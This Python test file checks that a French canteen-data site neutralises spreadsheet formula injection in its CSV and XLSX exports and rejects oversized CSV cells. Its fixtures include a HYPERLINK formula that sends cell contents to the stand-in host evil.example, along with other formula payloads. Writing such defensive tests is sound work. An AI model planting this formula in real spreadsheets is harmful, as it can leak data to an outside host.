"""Finding 4: formula injection in the spreadsheets the site produces (open data, officers' follow-up export,
mail-merge CSV, the admin's feedback export). A text starting with = + - @ tab or CR is neutralised (leading
apostrophe, home/spreadsheets.py), XLSX text cells are strings, never formulas; numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from home.spreadsheets import csv_row, neutralise, spreadsheet_response
from resources.models import ResourceFeedback
from tests.factories import MailTemplateFactory, ResourcePageFactory

pytestmark = pytest.mark.django_db

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")'


def body(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_dicts(response):
    return list(csv.DictReader(io.StringIO(body(response).decode("utf-8-sig"))))


def xlsx_cells(response):
    sheet = load_workbook(io.BytesIO(body(response))).active  # not read-only: data types are visible
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23", "'+33 1 23"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("École = cantine", "École = cantine"),
        ("", ""),
        (Decimal("-2.50"), Decimal("-2.50")),
        (-5, -5),
        (None, None),
        ("nom\x0bcaché", "nomcaché"),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_csv_row_keeps_numbers():
    assert csv_row(["=1", 3, Decimal("-1")]) == ["'=1", 3, Decimal("-1")]


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_spreadsheet_response(extension):
    """The small downloads of the canteens and territories views (home/spreadsheets.py, not a views module)."""
    response = spreadsheet_response("export", ["nom", "taux"], [[EVIL_NAME, 12.5]], extension)
    assert response["Content-Disposition"] == f'attachment; filename="export.{extension}"'
    if extension == "csv":
        assert response.content.startswith("\ufeff".encode())
        rows = list(csv.reader(io.StringIO(body(response).decode("utf-8-sig")), delimiter=";"))
        assert rows == [["nom", "taux"], ["'" + EVIL_NAME, "12.5"]]
    else:
        cells = xlsx_cells(response)
        assert [cell.value for cell in cells] == ["nom", "taux", "'" + EVIL_NAME, 12.5]
        assert all(cell.data_type != "f" for cell in cells)


@pytest.fixture
def evil(world):
    canteen = world["rennes"]
    canteen.name = EVIL_NAME
    canteen.city = "=1+1"
    canteen.save()
    return canteen


def assert_no_formula(cells):
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert "'" + EVIL_NAME in texts
    assert all(cell.data_type != "f" for cell in cells)
    assert not any(text.startswith(("=", "+", "@")) for text in texts)


def test_open_data_registry_csv_and_xlsx(client, evil):
    rows = csv_dicts(client.get("/donnees/registre-cantines.csv?region=53"))
    row = next(row for row in rows if "HYPERLINK" in row["nom"])
    assert row["nom"] == "'" + EVIL_NAME
    assert row["taux_bio"] == "10.00"  # numbers untouched
    assert_no_formula(xlsx_cells(client.get("/donnees/registre-cantines.xlsx?region=53")))


def test_officer_follow_up_export(client, evil, officer):
    client.force_login(officer.user)
    rows = csv_dicts(client.get("/territoires/suivi/export.csv"))
    assert "'" + EVIL_NAME in {row["nom"] for row in rows}
    assert_no_formula(xlsx_cells(client.get("/territoires/suivi/export.xlsx")))


def test_mail_merge_csv(client, evil, officer):
    template = MailTemplateFactory(code="relance", subject="{{ nom_cantine }}", body="{{ commune }}")
    client.force_login(officer.user)
    response = client.post(
        "/territoires/suivi/publipostage/",
        {
            "template": template.pk,
            "signatory": "Claire",
            "scope": "selection",
            "format": "csv",
            "canteens": [evil.pk],
        },
    )
    (row,) = csv_dicts(response)
    assert row["nom_cantine"] == "'" + EVIL_NAME
    assert row["objet"] == "'" + EVIL_NAME and row["corps"] == "'=1+1"


def test_feedback_admin_export(admin_client, resource_index):
    page = ResourcePageFactory(parent=resource_index, title="Guide")
    ResourceFeedback.objects.create(page=page, useful=False, comment='=HYPERLINK("http://evil.example","x")')
    exported = body(admin_client.get("/admin/reports/avis-sur-les-ressources/?export=csv")).decode()
    assert "'=HYPERLINK" in exported and ",=HYPERLINK" not in exported and '"=HYPERLINK' not in exported
    cells = xlsx_cells(admin_client.get("/admin/reports/avis-sur-les-ressources/?export=xlsx"))
    assert '\'=HYPERLINK("http://evil.example","x")' in [cell.value for cell in cells]


def test_uploaded_csv_cells_have_a_limit_of_their_own(csv_limit):
    """Both importers (canteens.imports, canteens.standard.reader) read CSV through csv_records: an unterminated
    quote that swallows the rest of the file is refused with its line, even when a library has raised
    csv.field_size_limit (`csv_limit`, tests/conftest.py)."""
    from canteens.standard.reader import FileRefused, read_csv
    from home.spreadsheets import CSV_MAX_CELL, UnreadableCsvLine, csv_records

    text = 'a;b\n1;2\n3;"' + "x" * (CSV_MAX_CELL + 1) + "\n4;5\n"
    with pytest.raises(UnreadableCsvLine) as refused:
        list(csv_records(text, ";"))
    assert refused.value.line == 3  # where the unreadable record starts, whatever stopped it
    with pytest.raises(FileRefused, match="Ligne 3 illisible"):
        read_csv(text.encode())
    at_limit = "a;b\n1;" + "x" * CSV_MAX_CELL + "\n"
    assert list(csv_records(at_limit, ";"))[1][1] == "x" * CSV_MAX_CELL
